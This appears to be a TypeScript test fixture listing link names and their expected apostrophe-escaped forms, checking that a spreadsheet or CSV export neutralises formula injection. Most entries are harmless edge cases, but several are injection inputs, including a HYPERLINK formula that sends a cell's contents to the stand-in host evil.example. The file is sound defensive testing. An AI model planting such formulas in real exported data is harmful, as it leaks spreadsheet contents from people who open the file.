import type { SownLink } from '../support/callers/population.ts';

/** A name as it is, and as the cell has to hold it. */
export const NAMES: readonly (readonly [string, string])[] = [
  ['=1+1', "'=1+1"],
  ['+44 20 7946 0000', "'+44 20 7946 0000"],
  ['-5 %', "'-5 %"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['  =1+1', "'  =1+1"],
  [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  ],
  ['say "hi", twice', 'say "hi", twice'],
  ['"', '"'],
  ['two\nlines', 'two\nlines'],
  ['two\r\nlines', 'two\r\nlines'],
  ['old\rmac', 'old\rmac'],
  ['comma, comma', 'comma, comma'],
  ['🎉 👩‍👩‍👧 sale', '🎉 👩‍👩‍👧 sale'],
  ['تخفيضات الصيف', 'تخفيضات الصيف'],
  ['\u202Eright-to-left override', '\u202Eright-to-left override'],
  ['１＋１', '１＋１'],
  [' leading and trailing ', ' leading and trailing '],
  ["'quoted'", "'quoted'"],
  ['a;b\tc|d', 'a;b\tc|d'],
  ['price;=1+1', "price;'=1+1"],
  ['price\t=1+1', "price\t'=1+1"],
  ['price|=1+1', "price|'=1+1"],
  ['say "hi";=1+1;"', `say "hi";'=1+1;"`],
  ['=1;=2', "'=1;'=2"],
  ['a; "=1+1"', `a; "'=1+1"`],
  ['two\n=1+1', "two\n'=1+1"],
  ['minus-one; 5 = 5', 'minus-one; 5 = 5'],
];

/** Links of these names, in their order when sorted by creation. */
export const NAMED_LINKS: readonly SownLink[] = NAMES.map(([name], index) => ({
  name,
  slug: `s${index}`,
  externalId: null,
  fallbackUrl: null,
  type: 'dynamic',
  createdAt: new Date(Date.UTC(2026, 0, 1, 0, index)),
}));
